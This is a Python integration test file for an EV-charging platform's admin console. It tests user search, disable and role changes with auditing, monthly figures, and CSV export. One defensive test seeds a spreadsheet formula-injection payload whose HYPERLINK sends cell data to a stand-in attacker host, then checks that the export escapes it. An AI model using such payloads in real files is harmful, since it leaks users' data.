"""The admin console: users (find, disable/enable, roles — audited, and effective at once)
and the platform's figures, checked against SQL and arithmetic written out by hand over a
seeded month."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import random
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from datetime import time as dtime
from zoneinfo import ZoneInfo

import httpx
import pytest

from cloud.accounts.models import Role
from cloud.billing.quote import Tariff, Usage, price
from cloud.chargers.models import PricingMode
from cloud.ledger.entries import bill_txn
from cloud.pg import PgConnection
from protocols.ids import new_ulid
from tests.support.bookings_fixtures import add_charger
from tests.support.market import TEST_PASSWORD, Api, add_user

pytestmark = pytest.mark.integration

IST = ZoneInfo("Asia/Kolkata")
#: How long a change may take to reach the API's cache (milliseconds in practice).
PROPAGATION_DEADLINE_S = 10.0


async def _soon(call: Callable[[], Awaitable[httpx.Response]], status: int) -> httpx.Response:
    """``call()`` until it answers ``status`` (the change arrives by notification)."""
    answer = await call()
    async with asyncio.timeout(PROPAGATION_DEADLINE_S):
        while answer.status_code != status:
            await asyncio.sleep(0.05)
            answer = await call()
    return answer


# --- users -------------------------------------------------------------------------------------


async def test_admins_find_users_by_fragment_role_and_state(
    market_api: Api, pg: PgConnection
) -> None:
    s, api = market_api.settings, market_api.client
    admin = await add_user(pg, s, Role.ADMIN)
    asha = await add_user(pg, s, Role.DRIVER, email="asha.k@example.in", phone="+919812345678")
    ravi = await add_user(pg, s, Role.HOST, email="ravi_100%@example.in")
    await pg.execute("UPDATE users SET name = 'Asha Kulkarni' WHERE id = $1", asha.id)
    await pg.execute("UPDATE users SET disabled_at = now() WHERE id = $1", ravi.id)

    async def ids(**params: str) -> set[str]:
        answer = await api.get("/admin/users", params=params, headers=admin.headers)
        assert answer.status_code == 200, answer.text
        return {u["id"] for u in answer.json()["items"]}

    assert await ids(q="ASHA.K") == {asha.id}
    assert await ids(q="kulkar") == {asha.id}
    assert await ids(q="12345") == {asha.id}
    # % and _ are the text itself, not wildcards.
    assert await ids(q="100%") == {ravi.id}
    assert await ids(q="i_1") == {ravi.id}
    assert await ids(q="%") == {ravi.id}
    assert await ids(role="host") == {ravi.id}
    assert await ids(disabled="true") == {ravi.id}
    assert await ids(disabled="false") == {admin.id, asha.id}
    one = (await api.get(f"/admin/users/{ravi.id}", headers=admin.headers)).json()
    assert (one["roles"], one["host_id"], one["kyc_status"]) == (["host"], ravi.host_id, "verified")
    assert one["disabled_at"] is not None


async def test_a_disabled_user_is_refused_at_once_and_it_is_audited(
    market_api: Api, pg: PgConnection
) -> None:
    s, api = market_api.settings, market_api.client
    admin = await add_user(pg, s, Role.ADMIN)
    user = await add_user(pg, s, Role.DRIVER)
    login = await api.post("/auth/login", json={"email": user.email, "password": TEST_PASSWORD})
    refresh = login.json()["refresh_token"]
    assert (await api.get("/me", headers=user.headers)).status_code == 200  # cached now

    disabled = await api.post(
        f"/admin/users/{user.id}/disable",
        json={"reason": "chargeback fraud"},
        headers=admin.headers | {"X-Request-ID": "ticket-881"},
    )
    assert disabled.status_code == 200, disabled.text
    assert disabled.json()["disabled_at"] is not None
    await _soon(lambda: api.get("/me", headers=user.headers), 401)
    again = await api.post("/auth/refresh", json={"refresh_token": refresh})
    assert again.status_code == 401
    twice = await api.post(
        f"/admin/users/{user.id}/disable", json={"reason": "again"}, headers=admin.headers
    )
    assert twice.status_code == 200

    mine = await api.post(
        f"/admin/users/{admin.id}/disable", json={"reason": "oops"}, headers=admin.headers
    )
    assert mine.status_code == 409

    enabled = await api.post(f"/admin/users/{user.id}/enable", headers=admin.headers)
    assert enabled.json()["disabled_at"] is None
    # Signing in works again; the tokens from before do not come back.
    relog = await api.post("/auth/login", json={"email": user.email, "password": TEST_PASSWORD})
    assert relog.status_code == 200
    assert (await api.get("/me", headers=user.headers)).status_code == 401
    assert (await api.post("/auth/refresh", json={"refresh_token": refresh})).status_code == 401

    rows = await pg.fetch(
        "SELECT action, actor_user_id, request_id, data FROM audit_log "
        "WHERE entity = 'user' AND entity_id = $1 ORDER BY id",
        user.id,
    )
    assert [r["action"] for r in rows] == ["user.disable", "user.enable"]
    assert rows[0]["actor_user_id"] == admin.id
    assert rows[0]["request_id"] == "ticket-881"
    assert json.loads(rows[0]["data"]) == {"reason": "chargeback fraud"}


async def test_role_changes_apply_at_once_and_are_audited(
    market_api: Api, pg: PgConnection
) -> None:
    s, api = market_api.settings, market_api.client
    admin = await add_user(pg, s, Role.ADMIN)
    other = await add_user(pg, s, Role.ADMIN)
    driver = await add_user(pg, s, Role.DRIVER)
    assert (await api.get("/host/kyc", headers=driver.headers)).status_code == 403

    made_host = await api.put(
        f"/admin/users/{driver.id}/roles", json={"roles": ["driver", "host"]}, headers=admin.headers
    )
    assert made_host.status_code == 200, made_host.text
    assert made_host.json()["kyc_status"] == "not_started"  # a host profile, KYC to do
    answer = await _soon(lambda: api.get("/host/kyc", headers=driver.headers), 200)
    assert answer.json()["kyc_status"] == "not_started"

    assert (await api.get("/admin/audit", headers=other.headers)).status_code == 200
    demoted = await api.put(
        f"/admin/users/{other.id}/roles", json={"roles": ["driver"]}, headers=admin.headers
    )
    assert demoted.json()["roles"] == ["driver"]
    await _soon(lambda: api.get("/admin/audit", headers=other.headers), 403)

    own = await api.put(
        f"/admin/users/{admin.id}/roles", json={"roles": ["driver"]}, headers=admin.headers
    )
    assert own.status_code == 409
    duplicate = await api.put(
        f"/admin/users/{driver.id}/roles", json={"roles": ["host", "host"]}, headers=admin.headers
    )
    assert duplicate.status_code == 422
    rows = await pg.fetch(
        "SELECT entity_id, before, after FROM audit_log WHERE action = 'user.roles' ORDER BY id"
    )
    assert [(r["entity_id"], json.loads(r["before"]), json.loads(r["after"])) for r in rows] == [
        (driver.id, {"roles": ["driver"]}, {"roles": ["driver", "host"]}),
        (other.id, {"roles": ["admin"]}, {"roles": ["driver"]}),
    ]


# --- figures -----------------------------------------------------------------------------------

MONTH_START, MONTH_END = date(2026, 11, 1), date(2026, 11, 30)
T0 = datetime(2026, 11, 1, tzinfo=IST)
T1 = datetime(2026, 12, 1, tzinfo=IST)
TARIFF = Tariff(PricingMode.PER_KWH, 1800, 0, 500, 0)


@dataclass(frozen=True, slots=True)
class Seeded:
    charger_id: str
    start: datetime
    stop: datetime | None
    energy_wh: int
    city: str
    billed_paise: int
    commission_paise: int
    gst_paise: int


async def _seed_month(pg: PgConnection, api: Api) -> tuple[dict[str, str], list[Seeded]]:
    """Three listed chargers and a month of sessions, billed through the ledger's own
    builder on the day each session stopped."""
    s = api.settings
    host = await add_user(pg, s, Role.HOST)
    driver = await add_user(pg, s, Role.DRIVER)
    day_hours = tuple((d, dtime(8, 0), dtime(20, 0)) for d in range(7))
    c1 = await add_charger(pg, host, connectors=(1, 2), windows=day_hours)
    c2 = await add_charger(pg, host)
    c3 = await add_charger(pg, host, with_device=False)
    await add_charger(pg, host, moderation_status="pending")  # no sessions: not reported
    await pg.execute("UPDATE chargers SET city = 'Mumbai' WHERE id = $1", c3.id)
    await pg.execute(
        "INSERT INTO blocked_periods (charger_id, period) VALUES ($1, tstzrange($2, $3))",
        c1.id,
        datetime(2026, 11, 10, 10, tzinfo=IST),
        datetime(2026, 11, 10, 14, tzinfo=IST),
    )
    rng = random.Random(1811)
    plan: list[tuple[str, str | None, datetime, datetime | None, int, str]] = []
    for day in range(30):
        for charger, city in ((c1, "Pune"), (c2, "Pune"), (c3, "Mumbai")):
            for _ in range(rng.randint(0, 3)):
                start = T0 + timedelta(
                    days=day, hours=rng.randint(8, 18), minutes=rng.choice((0, 30))
                )
                minutes = rng.randint(20, 240)  # some run past midnight into the next day
                plan.append(
                    (
                        charger.id,
                        charger.device_id,
                        start,
                        start + timedelta(minutes=minutes),
                        rng.randint(500, 30_000),
                        city,
                    )
                )
    # Across the month's first midnight (its hour in November counts, the session does not),
    # and still running at the end.
    plan.append(
        (c2.id, c2.device_id, T0 - timedelta(hours=1), T0 + timedelta(hours=1), 4000, "Pune")
    )
    plan.append((c2.id, c2.device_id, T1 - timedelta(minutes=30), None, 1200, "Pune"))
    plan.append((c3.id, None, T1 + timedelta(hours=2), T1 + timedelta(hours=3), 999, "Mumbai"))

    seeded: list[Seeded] = []
    async with pg.transaction():
        # The ledger stamps every entry with its posting transaction's time (migration
        # 0009); a month of history is seeded with that one trigger lifted inside this
        # transaction only (ALTER TABLE holds its lock to the commit: nobody sees it off).
        await pg.execute("ALTER TABLE ledger_entries DISABLE TRIGGER ledger_entries_stamp")
        # Balance is checked at each statement's end here, so no deferred check is pending
        # when the trigger is switched back on (ALTER TABLE refuses pending trigger events).
        await pg.execute("SET CONSTRAINTS ALL IMMEDIATE")
        for n, (charger_id, device_id, start, stop, energy, city) in enumerate(plan):
            session_id = await pg.fetchval(
                "INSERT INTO sessions (device_id, device_session_id, connector_number, "
                "charger_id, user_id, credential_kind, credential_ref, state, started_at, "
                "stopped_at, meter_start_wh, meter_stop_wh, energy_wh, last_event_seq, "
                "events_received) VALUES ($1, $2, $3, $4, $5, 'Remote', 'r', $6, $7, $8, 0, "
                "$9, $9, 1, 1) RETURNING id",
                device_id or "cm-none",
                new_ulid(),
                1 + n % 2 if charger_id == c1.id else 1,
                charger_id,
                driver.id,
                "active" if stop is None else "stopped",
                start,
                stop,
                energy,
            )
            billed = commission = gst = 0
            if stop is not None:
                quote = price(TARIFF, Usage(stop - start, energy))
                txn = bill_txn(
                    session_id=session_id,
                    driver_id=driver.id,
                    host_id=host.host_id or "",
                    quote=quote,
                    host_gst_registered=False,
                )
                entries = txn.entries
                # One statement per transaction: its balance is checked at the statement's end.
                await pg.execute(
                    "INSERT INTO ledger_entries (txn_id, account, amount_paise, source, "
                    "session_id, memo, created_at) SELECT $1, a, m, src, $2, $3, $4 "
                    "FROM unnest($5::text[], $6::bigint[], $7::text[]) AS t(a, m, src)",
                    new_ulid(),
                    session_id,
                    txn.memo,
                    stop,
                    [e.account for e in entries],
                    [e.amount_paise for e in entries],
                    [e.source.value for e in entries],
                )
                for e in entries:
                    if e.account.startswith("driver:"):
                        billed += e.amount_paise
                    elif e.account == "platform_commission":
                        commission -= e.amount_paise
                    elif e.account == "gst_payable":
                        gst -= e.amount_paise
            seeded.append(Seeded(charger_id, start, stop, energy, city, billed, commission, gst))
        await pg.execute("ALTER TABLE ledger_entries ENABLE TRIGGER ledger_entries_stamp")
    # c1's device reported readings for 8 hours a day in the first 15 days (two quantities:
    # one interval counts once).
    for day in range(15):
        for q in range(32):
            bucket = T0 + timedelta(days=day, hours=9, minutes=15 * q)
            for quantity in ("power_w", "energy_import_wh"):
                await pg.execute(
                    "INSERT INTO telemetry_15m (bucket, device_id, meter_id, quantity, n, total, "
                    "min_value, max_value) VALUES ($1, $2, 'm1', $3, 15, 1, 0, 1)",
                    bucket,
                    c1.device_id,
                    quantity,
                )
    return {"c1": c1.id, "c2": c2.id, "c3": c3.id}, seeded


def _overlap_h(start: datetime, stop: datetime | None, now: datetime) -> float:
    end = min(stop or now, T1)
    return max((end - max(start, T0)).total_seconds(), 0) / 3600


async def test_figures_match_hand_computed_sql_over_a_month(
    market_api: Api, pg: PgConnection
) -> None:
    api = market_api.client
    admin = await add_user(pg, market_api.settings, Role.ADMIN)
    chargers, seeded = await _seed_month(pg, market_api)
    params = {"from": "2026-11-01", "to": "2026-11-30"}
    answer = await api.get("/admin/figures", params=params, headers=admin.headers)
    assert answer.status_code == 200, answer.text
    body = answer.json()
    now = datetime.now(UTC)

    # Per day: the sessions table and the ledger, asked day by day with plain SQL.
    assert [d["day"] for d in body["days"]] == [
        (MONTH_START + timedelta(days=n)).isoformat() for n in range(30)
    ]
    for n, day in enumerate(body["days"]):
        lo, hi = T0 + timedelta(days=n), T0 + timedelta(days=n + 1)
        (count,) = await pg.fetch(
            "SELECT count(*), coalesce(sum(energy_wh), 0) FROM sessions "
            "WHERE started_at >= $1 AND started_at < $2",
            lo,
            hi,
        )
        (money,) = await pg.fetch(
            "SELECT coalesce(sum(amount_paise) FILTER (WHERE account LIKE 'driver:%'), 0), "
            "coalesce(-sum(amount_paise) FILTER (WHERE account = 'platform_commission'), 0), "
            "coalesce(-sum(amount_paise) FILTER (WHERE account = 'gst_payable'), 0) "
            "FROM ledger_entries WHERE created_at >= $1 AND created_at < $2",
            lo,
            hi,
        )
        assert (day["sessions"], day["energy_wh"]) == (count[0], count[1]), day
        assert (day["revenue_paise"], day["commission_paise"], day["gst_paise"]) == (
            money[0],
            money[1],
            money[2],
        ), day
    # ... and against the seed's own arithmetic.
    in_month = [x for x in seeded if T0 <= x.start < T1]
    billed_in_month = [x for x in seeded if x.stop is not None and T0 <= x.stop < T1]
    totals = body["totals"]
    assert totals["sessions"] == len(in_month) > 60
    assert totals["energy_wh"] == sum(x.energy_wh for x in in_month)
    assert totals["energy_kwh"] == pytest.approx(totals["energy_wh"] / 1000)
    assert totals["revenue_paise"] == sum(x.billed_paise for x in billed_in_month)
    assert totals["commission_paise"] == sum(x.commission_paise for x in billed_in_month)
    assert totals["gst_paise"] == sum(x.gst_paise for x in billed_in_month)

    # Utilisation: charging connector-hours over open connector-hours, by hand.
    open_h = {
        chargers["c1"]: (30 * 12 - 4) * 2,  # 08:00-20:00 daily, 4 h blocked, 2 connectors
        chargers["c2"]: 30 * 24,
        chargers["c3"]: 30 * 24,
    }
    by_id = {c["charger_id"]: c for c in body["chargers"]}
    assert set(by_id) == set(open_h)
    for charger_id, capacity in open_h.items():
        mine = [x for x in seeded if x.charger_id == charger_id]
        charging = sum(_overlap_h(x.start, x.stop, now) for x in mine)
        row = by_id[charger_id]
        assert row["charging_hours"] == pytest.approx(charging, abs=1e-3)
        assert row["available_hours"] * row["connectors"] == pytest.approx(capacity)
        assert row["utilisation"] == pytest.approx(charging / capacity, abs=1e-4)
        assert row["sessions"] == len([x for x in mine if T0 <= x.start < T1])
    utilisations = [c["utilisation"] for c in body["chargers"]]
    assert utilisations == sorted(utilisations, reverse=True)

    # Online: c1 reported 15 days x 32 of 30 x 96 intervals; c2 never; c3 has no device.
    assert by_id[chargers["c1"]]["online_ratio"] == pytest.approx(480 / 2880, abs=1e-4)
    assert by_id[chargers["c2"]]["online_ratio"] == 0
    assert by_id[chargers["c3"]]["online_ratio"] is None
    assert body["online_ratio"] == pytest.approx(480 / (2 * 2880), abs=1e-4)

    cities = {c["city"]: c for c in body["top_cities"]}
    for city in ("Pune", "Mumbai"):
        mine = [x for x in in_month if x.city == city]
        assert cities[city]["sessions"] == len(mine)
        assert cities[city]["energy_wh"] == sum(x.energy_wh for x in mine)
        assert cities[city]["revenue_paise"] == sum(
            x.billed_paise for x in billed_in_month if x.city == city
        )
    assert [c["city"] for c in body["top_cities"]] == sorted(
        cities, key=lambda c: (-cities[c]["sessions"], -cities[c]["energy_wh"])
    )

    # CSV: the same rows, by format=csv or by Accept.
    as_csv = await api.get(
        "/admin/figures", params=params | {"format": "csv"}, headers=admin.headers
    )
    assert as_csv.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert [(r["day"], int(r["sessions"]), int(r["revenue_paise"])) for r in rows] == [
        (d["day"], d["sessions"], d["revenue_paise"]) for d in body["days"]
    ]
    accepted = await api.get(
        "/admin/figures",
        params=params | {"table": "chargers"},
        headers=admin.headers | {"Accept": "text/csv"},
    )
    charger_rows = list(csv.DictReader(io.StringIO(accepted.text)))
    assert [r["charger_id"] for r in charger_rows] == [c["charger_id"] for c in body["chargers"]]

    for bad in (
        {"from": "2026-11-30", "to": "2026-11-01"},
        {"from": "2025-01-01", "to": "2026-11-30"},
        {"from": "1999-12-31", "to": "2000-01-02"},
    ):
        refused = await api.get("/admin/figures", params=bad, headers=admin.headers)
        assert refused.status_code == 422, bad
    driver = await add_user(pg, market_api.settings, Role.HOST)
    assert (
        await api.get("/admin/figures", params=params, headers=driver.headers)
    ).status_code == 403


async def test_host_text_in_the_figures_csv_opens_as_text_not_a_formula(
    market_api: Api, pg: PgConnection
) -> None:
    """A charger's name and city are the host's text: in the CSV, one starting with a
    formula character (``= + - @``, tab, carriage return: OWASP's list) gets a leading
    apostrophe, so a spreadsheet shows it instead of running it; numbers are left alone."""
    api, s = market_api.client, market_api.settings
    admin = await add_user(pg, s, Role.ADMIN)
    host, driver = await add_user(pg, s, Role.HOST), await add_user(pg, s, Role.DRIVER)
    charger = await add_charger(pg, host)
    name = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    await pg.execute(
        "UPDATE chargers SET name = $2, city = $3 WHERE id = $1", charger.id, name, "@SUM(1+1)"
    )
    start = T0 + timedelta(days=2, hours=10)
    await pg.execute(
        "INSERT INTO sessions (device_id, device_session_id, connector_number, charger_id, "
        "user_id, credential_kind, credential_ref, state, started_at, stopped_at, "
        "meter_start_wh, meter_stop_wh, energy_wh, last_event_seq, events_received) "
        "VALUES ($1, $2, 1, $3, $4, 'Remote', 'r', 'stopped', $5, $6, 0, 900, 900, 1, 1)",
        charger.device_id,
        new_ulid(),
        charger.id,
        driver.id,
        start,
        start + timedelta(hours=1),
    )
    params = {"from": "2026-11-01", "to": "2026-11-30", "format": "csv"}
    chargers = await api.get(
        "/admin/figures", params=params | {"table": "chargers"}, headers=admin.headers
    )
    assert chargers.status_code == 200, chargers.text
    (row,) = [
        r for r in csv.DictReader(io.StringIO(chargers.text)) if r["charger_id"] == charger.id
    ]
    assert (row["name"], row["city"]) == ("'" + name, "'@SUM(1+1)")
    assert (int(row["sessions"]), int(row["energy_wh"])) == (1, 900)
    cities = await api.get(
        "/admin/figures", params=params | {"table": "cities"}, headers=admin.headers
    )
    assert [r["city"] for r in csv.DictReader(io.StringIO(cities.text))] == ["'@SUM(1+1)"]
    # The JSON is data, not a spreadsheet: there the text is as the host wrote it.
    body = (
        await api.get("/admin/figures", params=params | {"format": "json"}, headers=admin.headers)
    ).json()
    assert [c["name"] for c in body["chargers"] if c["charger_id"] == charger.id] == [name]
